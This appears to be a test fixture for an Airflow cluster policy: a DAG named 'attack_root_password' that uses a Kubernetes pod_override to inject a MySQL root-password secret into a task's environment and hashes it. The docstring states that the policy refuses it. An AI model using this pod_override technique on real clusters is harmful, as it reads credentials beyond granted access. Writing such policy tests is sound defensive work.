"""Reads MySQL's root password, which the cluster policy refuses."""

from __future__ import annotations

import hashlib
import os
from datetime import datetime

from airflow import DAG
from airflow.operators.python import PythonOperator
from kubernetes.client import models as k8s

password = k8s.V1EnvVar(
    name="ROOT_PASSWORD",
    value_from=k8s.V1EnvVarSource(secret_key_ref=k8s.V1SecretKeySelector(name="airflow-mysql", key="root-password")),
)
override = k8s.V1Pod(spec=k8s.V1PodSpec(containers=[k8s.V1Container(name="base", env=[password])]))

with DAG(dag_id="attack_root_password", schedule=None, start_date=datetime(2024, 1, 1), catchup=False):
    PythonOperator(
        task_id="read",
        python_callable=lambda: hashlib.sha256(os.environ["ROOT_PASSWORD"].encode()).hexdigest(),
        executor_config={"pod_override": override},
    )
